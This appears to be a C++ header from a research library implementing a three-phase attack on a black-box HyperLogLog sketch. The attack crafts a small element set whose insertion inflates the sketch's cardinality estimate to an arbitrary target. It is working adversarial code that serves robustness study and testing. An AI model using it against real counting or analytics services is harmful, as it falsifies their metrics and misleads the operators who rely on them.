// Copyright 2026 The hllrt Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      https://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// Estimate-inflation attack against a black-box HyperLogLog.
//
// Given only reset/insert/estimate access, build a set V of roughly R
// elements (R = register count, never observed directly) whose insertion
// into an empty sketch yields an estimate close to an arbitrary target C.
//
//   phase 1  stream C fresh elements through an empty oracle and keep every
//            element whose insertion strictly raised the integer estimate.
//   phase 2  preload the phase-1 set into a new oracle, stream the same C
//            elements again and append every element that still raises the
//            estimate. This recovers register maxima that were invisible in
//            phase 1 (low-range estimator, rounding).
//   phase 3  replay the phase-2 set newest-first into a third oracle and
//            keep what raises the estimate. Newest-first meets each
//            register's largest value before the smaller ones, so roughly
//            one element per register survives.
//
// Total oracle insertions are C + (|Y| + C) + |Y2|, i.e. O(C).

#pragma once

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdint>
#include <optional>
#include <stdexcept>
#include <string>
#include <unordered_set>
#include <utility>
#include <vector>

#include "hllrt/hash.hpp"
#include "hllrt/oracle.hpp"

namespace hllrt {

// Deterministic stream of distinct elements. Element k is the hex encoding
// of a bijective mix of k keyed by the seed, so it can be regenerated in O(1)
// without replaying 0..k-1.
class ElementGenerator {
 public:
  explicit ElementGenerator(std::uint64_t seed) : seed_(seed), key_(mix64(seed ^ 0x68ab1e11ULL)) {}

  std::string element(std::uint64_t k) const {
    static constexpr char kHex[] = "0123456789abcdef";
    std::uint64_t x = mix64(k ^ key_);
    std::string out(16, '0');
    for (int i = 15; i >= 0; --i, x >>= 4) out[static_cast<std::size_t>(i)] = kHex[x & 0xf];
    return out;
  }

  std::string next() { return element(counter_++); }
  void rewind() noexcept { counter_ = 0; }

  std::uint64_t seed() const noexcept { return seed_; }
  std::uint64_t counter() const noexcept { return counter_; }

 private:
  std::uint64_t seed_;
  std::uint64_t key_;
  std::uint64_t counter_ = 0;
};

struct AttackSet {
  std::vector<std::string> elements;  // insertion order is significant
  int phase = 0;                      // 1..3; 0 for a plain element list
  std::uint64_t target_cardinality = 0;
  std::uint64_t achieved_estimate = 0;
  std::uint64_t source_seed = 0;

  std::size_t size() const noexcept { return elements.size(); }
  friend bool operator==(const AttackSet&, const AttackSet&) = default;
};

struct PhaseReport {
  int phase = 0;
  std::uint64_t set_size = 0;
  // Estimate of the phase's output set alone in an empty oracle. Phases 1
  // and 2 learn it for free from the next phase; phase 3's comes from verify().
  std::optional<std::uint64_t> estimate;
  // Estimate of the phase's oracle before its filtering scan started (the
  // preloaded set in phase 2, zero otherwise) and when the phase finished.
  std::uint64_t baseline_estimate = 0;
  std::uint64_t oracle_estimate = 0;
  std::uint64_t insertions_performed = 0;
  std::uint64_t estimate_queries = 0;
  double wall_time_ms = 0.0;
};

// Raised when the oracle fails mid-attack. Carries the output of the last
// completed phase (if any) so the run can be resumed from it.
class AttackAborted : public std::runtime_error {
 public:
  AttackAborted(int failed_phase, std::optional<AttackSet> checkpoint, std::vector<PhaseReport> completed,
                const std::string& cause)
      : std::runtime_error("attack aborted in phase " + std::to_string(failed_phase) + ": " + cause),
        failed_phase_(failed_phase),
        checkpoint_(std::move(checkpoint)),
        completed_(std::move(completed)) {}

  int failed_phase() const noexcept { return failed_phase_; }
  const std::optional<AttackSet>& checkpoint() const noexcept { return checkpoint_; }
  const std::vector<PhaseReport>& completed_reports() const noexcept { return completed_; }

 private:
  int failed_phase_;
  std::optional<AttackSet> checkpoint_;
  std::vector<PhaseReport> completed_;
};

// Raised by a single phase; holds whatever that phase had collected.
class PhaseFailed : public OracleError {
 public:
  PhaseFailed(int phase, AttackSet partial, const std::string& cause)
      : OracleError(cause), phase_(phase), partial_(std::move(partial)) {}

  int phase() const noexcept { return phase_; }
  const AttackSet& partial() const noexcept { return partial_; }

 private:
  int phase_;
  AttackSet partial_;
};

namespace detail {

// One filtering pass: each element is inserted and kept iff the estimate
// observed right after it is strictly greater than the one right before.
// Estimates are side-effect free, so "before" for element k is "after" for
// element k-1 and only one query per element is needed.
template <typename NextElement>
void filter_pass(CardinalityOracle& oracle, std::uint64_t count, NextElement&& next, AttackSet& kept,
                 PhaseReport& report) {
  std::uint64_t before = oracle.estimate();
  ++report.estimate_queries;
  report.baseline_estimate = before;
  for (std::uint64_t i = 0; i < count; ++i) {
    std::string element = next(i);
    const std::uint64_t after = oracle.insert_and_estimate(element);
    ++report.insertions_performed;
    ++report.estimate_queries;
    if (after > before) kept.elements.push_back(std::move(element));
    before = after;
  }
  report.oracle_estimate = before;
}

template <typename Body>
void run_phase(int phase, AttackSet& partial, PhaseReport& report, Body&& body) {
  const auto t0 = std::chrono::steady_clock::now();
  try {
    body();
    report.wall_time_ms =
        std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - t0).count();
  } catch (const PhaseFailed&) {
    throw;
  } catch (const OracleError& e) {
    throw PhaseFailed(phase, partial, e.what());
  }
}

}  // namespace detail

// Streams C elements of `stream` (from its start) through a fresh oracle.
inline std::pair<AttackSet, PhaseReport> phase1(CardinalityOracle& oracle, ElementGenerator stream,
                                                std::uint64_t target_c) {
  if (target_c < 1) throw std::invalid_argument("target cardinality must be at least 1");
  AttackSet y;
  y.phase = 1;
  y.target_cardinality = target_c;
  y.source_seed = stream.seed();
  PhaseReport report;
  report.phase = 1;
  stream.rewind();
  detail::run_phase(1, y, report, [&] {
    detail::filter_pass(oracle, target_c, [&](std::uint64_t) { return stream.next(); }, y, report);
  });
  report.set_size = y.size();
  y.achieved_estimate = report.oracle_estimate;
  return {std::move(y), report};
}

// Preloads `y` without queries, then rescans the same C-element stream.
// Elements of `y` are skipped on the rescan: they are already in the sketch
// and cannot move it, so the phase costs exactly C insertions.
// The report's baseline_estimate is the estimate of `y` alone.
inline std::pair<AttackSet, PhaseReport> phase2(CardinalityOracle& fresh_oracle, const AttackSet& y,
                                                ElementGenerator stream) {
  if (y.target_cardinality < 1) throw std::invalid_argument("phase-1 set carries no target cardinality");
  AttackSet y2 = y;
  y2.phase = 2;
  PhaseReport report;
  report.phase = 2;
  stream.rewind();
  const std::unordered_set<std::string> preloaded(y.elements.begin(), y.elements.end());
  std::vector<std::string> rest;
  rest.reserve(y.target_cardinality - std::min<std::uint64_t>(y.target_cardinality, preloaded.size()));
  for (std::uint64_t i = 0; i < y.target_cardinality; ++i) {
    auto e = stream.next();
    if (!preloaded.contains(e)) rest.push_back(std::move(e));
  }
  detail::run_phase(2, y2, report, [&] {
    fresh_oracle.insert_all(y.elements);
    report.insertions_performed += y.size();
    detail::filter_pass(
        fresh_oracle, rest.size(), [&](std::uint64_t i) { return std::move(rest[i]); }, y2, report);
  });
  report.set_size = y2.size();
  y2.achieved_estimate = report.oracle_estimate;
  return {std::move(y2), report};
}

// Replays `y2` newest-first and keeps what raises the estimate. The result
// is stored in that processing order.
inline std::pair<AttackSet, PhaseReport> phase3(CardinalityOracle& fresh_oracle, const AttackSet& y2) {
  AttackSet v;
  v.phase = 3;
  v.target_cardinality = y2.target_cardinality;
  v.source_seed = y2.source_seed;
  PhaseReport report;
  report.phase = 3;
  const auto n = y2.size();
  detail::run_phase(3, v, report, [&] {
    detail::filter_pass(
        fresh_oracle, n, [&](std::uint64_t i) { return y2.elements[n - 1 - i]; }, v, report);
  });
  report.set_size = v.size();
  v.achieved_estimate = report.oracle_estimate;
  return {std::move(v), report};
}

// Inserts `v` in stored order into a fresh oracle and returns the estimate.
inline std::uint64_t verify(CardinalityOracle& oracle, const AttackSet& v) {
  oracle.insert_all(v.elements);
  return oracle.estimate();
}

struct AttackResult {
  AttackSet y1;
  AttackSet y2;
  AttackSet v;
  std::array<PhaseReport, 3> reports;

  std::uint64_t total_insertions() const noexcept {
    return reports[0].insertions_performed + reports[1].insertions_performed +
           reports[2].insertions_performed;
  }
};

namespace detail {

// Runs the phases after `start` (the output of phase start->phase), or all
// three for a fresh run.
inline AttackResult run_from(const std::optional<AttackSet>& start, std::uint64_t target_c,
                             const OracleFactory& oracle_factory, std::uint64_t seed) {
  AttackResult result;
  std::vector<PhaseReport> done;
  std::optional<AttackSet> checkpoint = start;
  const int first_phase = start ? start->phase + 1 : 1;
  const ElementGenerator stream(start ? start->source_seed : seed);
  if (start) target_c = start->target_cardinality;

  int current_phase = first_phase;
  auto fresh = [&](int phase) {
    current_phase = phase;
    auto oracle = oracle_factory();
    oracle->reset();
    return oracle;
  };

  try {
    if (first_phase == 1) {
      auto oracle = fresh(1);
      auto [y, rep] = phase1(*oracle, stream, target_c);
      result.y1 = std::move(y);
      result.reports[0] = rep;
      done.push_back(rep);
      checkpoint = result.y1;
    } else if (start->phase == 1) {
      result.y1 = *start;
    }
    if (first_phase <= 2) {
      auto oracle = fresh(2);
      auto [y2, rep] = phase2(*oracle, result.y1, stream);
      result.y2 = std::move(y2);
      result.reports[1] = rep;
      result.reports[0].phase = 1;
      result.reports[0].set_size = result.y1.size();
      result.reports[0].estimate = rep.baseline_estimate;
      result.y1.achieved_estimate = rep.baseline_estimate;
      done.push_back(rep);
      checkpoint = result.y2;
    } else {
      result.y2 = *start;
    }
    auto oracle = fresh(3);
    auto [v, rep] = phase3(*oracle, result.y2);
    result.v = std::move(v);
    result.reports[2] = rep;
    // The phase-3 oracle ends up holding exactly Y2.
    result.reports[1].phase = 2;
    result.reports[1].set_size = result.y2.size();
    result.reports[1].estimate = rep.oracle_estimate;
    result.y2.achieved_estimate = rep.oracle_estimate;
  } catch (const PhaseFailed& e) {
    throw AttackAborted(e.phase(), checkpoint, done, e.what());
  } catch (const OracleError& e) {
    // Connecting or resetting a fresh oracle failed.
    throw AttackAborted(current_phase, checkpoint, done, e.what());
  }
  return result;
}

}  // namespace detail

inline AttackResult generate_attack_set(std::uint64_t target_c, const OracleFactory& oracle_factory,
                                        std::uint64_t seed) {
  if (target_c < 1) throw std::invalid_argument("target cardinality must be at least 1");
  return detail::run_from(std::nullopt, target_c, oracle_factory, seed);
}

// Continues an aborted run from the checkpoint of its last completed phase.
inline AttackResult resume_attack(const AttackSet& checkpoint, const OracleFactory& oracle_factory) {
  if (checkpoint.phase < 1 || checkpoint.phase > 2) {
    throw std::invalid_argument("only phase-1 or phase-2 checkpoints can be resumed");
  }
  return detail::run_from(checkpoint, checkpoint.target_cardinality, oracle_factory, checkpoint.source_seed);
}

}  // namespace hllrt
